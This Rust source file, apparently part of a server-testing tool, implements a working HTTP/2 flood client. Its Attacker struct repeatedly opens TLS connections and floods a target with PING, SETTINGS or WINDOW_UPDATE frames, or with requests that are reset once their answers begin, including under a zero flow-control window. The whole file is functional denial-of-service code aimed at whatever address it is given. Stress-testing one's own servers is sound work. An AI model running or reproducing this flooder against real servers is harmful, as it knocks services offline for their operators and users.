//! Client that floods, on its own thread.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{self, JoinHandle};

use anyhow::{Result, anyhow};
use clap::ValueEnum;
use rustls::pki_types::ServerName;
use tokio::io::{self, AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf, sink, split};
use tokio::net::TcpStream;
use tokio::runtime;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use crate::tls::{Group, Offer, Trust, Version};

/// Frames that cost a server more than a client.
#[derive(Clone, Copy, Debug, Eq, PartialEq, ValueEnum)]
pub(super) enum Kind {
    Ping,
    Settings,
    WindowUpdate,
    /// A request, and its reset when the answer's head is there
    Reset,
}

impl Kind {
    pub(super) const ALL: [Self; 4] = [Self::Ping, Self::Settings, Self::WindowUpdate, Self::Reset];

    pub(super) fn name(self) -> &'static str {
        match self {
            Self::Ping => "PING",
            Self::Settings => "SETTINGS",
            Self::WindowUpdate => "WINDOW_UPDATE",
            Self::Reset => "late RST_STREAM",
        }
    }
}

/// Result of a flood.
#[derive(Debug, Default)]
pub(super) struct Sent {
    pub(super) frames: u64,
    pub(super) connections: u64,
    /// Error that ended the last connection.
    pub(super) problem: String,
}

/// Flood that runs until it is stopped.
pub(super) struct Flooding {
    stop: Arc<AtomicBool>,
    thread: JoinHandle<Result<Sent>>,
}

impl Flooding {
    pub(super) fn start(target: SocketAddr, host: &str, kind: Kind) -> Result<Self> {
        let stop = Arc::new(AtomicBool::new(false));
        let attacker = Attacker {
            target,
            host: host.to_owned(),
            kind,
            stop: Arc::clone(&stop),
        };
        let thread = thread::Builder::new().name("flood".into()).spawn(move || {
            let runtime = runtime::Builder::new_current_thread()
                .enable_all()
                .build()?;
            runtime.block_on(attacker.flood())
        })?;
        Ok(Self { stop, thread })
    }

    pub(super) fn stop(self) -> Result<Sent> {
        self.stop.store(true, Ordering::Relaxed);
        let ended = self.thread.join();
        ended.map_err(|_| anyhow!("the flood panicked"))?
    }
}

struct Attacker {
    target: SocketAddr,
    host: String,
    kind: Kind,
    stop: Arc<AtomicBool>,
}

impl Attacker {
    async fn flood(self) -> Result<Sent> {
        let offer = Offer {
            version: Version::Tls13,
            group: Group::X25519,
            trust: Trust::Anyone,
            resume: None,
        };
        let mut config = offer.config()?;
        config.alpn_protocols = vec![b"h2".to_vec()];
        let tls = TlsConnector::from(Arc::new(config));
        let name = ServerName::try_from(self.host.clone())?;
        let mut sent = Sent::default();
        while !self.is_stopped() {
            let socket = TcpStream::connect(self.target).await?;
            socket.set_nodelay(true)?;
            let stream = tls.connect(name.clone(), socket).await?;
            sent.connections += 1;
            // The server is expected to end the connection: that limits the
            // flood.
            if let Err(error) = self.connection(stream, &mut sent.frames).await {
                sent.problem = error.to_string();
            }
        }
        Ok(sent)
    }

    async fn connection(&self, stream: TlsStream<TcpStream>, frames: &mut u64) -> io::Result<()> {
        let (mut from, mut to) = split(stream);
        if self.kind == Kind::Reset {
            return self.reset(&mut from, &mut to, frames).await;
        }
        to.write_all(&preface(65_535)).await?;
        let once = match self.kind {
            Kind::Ping => frame(6, 0, 0, &[7; 8]),
            Kind::Settings => frame(4, 0, 0, &[]),
            Kind::WindowUpdate | Kind::Reset => frame(8, 0, 0, &[0, 0, 0, 1]),
        };
        let many = once.repeat(AT_ONCE);
        let writing = async {
            while !self.is_stopped() {
                to.write_all(&many).await?;
                to.flush().await?;
                *frames += AT_ONCE as u64;
            }
            Ok(())
        };
        let mut nowhere = sink();
        tokio::select! {
            ended = writing => ended,
            ended = io::copy(&mut from, &mut nowhere) => ended.map(drop),
        }
    }

    /// Resets each request once its answer has begun. Without a window, each
    /// answer stays pending until its reset.
    async fn reset(
        &self,
        from: &mut ReadHalf<TlsStream<TcpStream>>,
        to: &mut WriteHalf<TlsStream<TcpStream>>,
        frames: &mut u64,
    ) -> io::Result<()> {
        to.write_all(&preface(0)).await?;
        let mut answer = vec![0; 16 << 10];
        for stream in (1..MOST_STREAMS).step_by(2) {
            if self.is_stopped() {
                break;
            }
            to.write_all(&get(stream, &self.host)).await?;
            to.flush().await?;
            if from.read(&mut answer).await? == 0 {
                break;
            }
            to.write_all(&frame(3, 0, stream, &[0, 0, 0, 8])).await?;
            *frames += 1;
        }
        Ok(())
    }

    fn is_stopped(&self) -> bool {
        // Relaxed: the flag orders nothing else, and one more write does not
        // matter.
        self.stop.load(Ordering::Relaxed)
    }
}

/// Encodes a frame (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [&head, payload].concat()
}

/// Encodes the preface, with SETTINGS_INITIAL_WINDOW_SIZE.
fn preface(window: u32) -> Vec<u8> {
    let window = [&[0, 4][..], &window.to_be_bytes()].concat();
    [PREFACE, &frame(4, 0, 0, &window)].concat()
}

/// Encodes HEADERS with END_STREAM and END_HEADERS: GET, https, path "/" and
/// the authority (RFC 7541).
fn get(stream: u32, host: &str) -> Vec<u8> {
    let length = u8::try_from(host.len()).expect("a name of a test is short");
    let fields = [&[0x82, 0x87, 0x84, 1, length], host.as_bytes()].concat();
    frame(1, 0x5, stream, &fields)
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Frames in one write.
const AT_ONCE: usize = 256;
/// Stream id that ends a connection: ids must not be reused.
const MOST_STREAMS: u32 = 1 << 30;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_have_their_length_in_front() {
        let ping = frame(6, 0, 0, &[7; 8]);
        assert_eq!(ping[..9], [0, 0, 8, 6, 0, 0, 0, 0, 0]);
        assert_eq!(ping.len(), 17);
        let request = get(3, "a.test");
        assert_eq!(request[..9], [0, 0, 11, 1, 5, 0, 0, 0, 3]);
        assert!(preface(0).ends_with(&[0, 4, 0, 0, 0, 0]));
    }
}
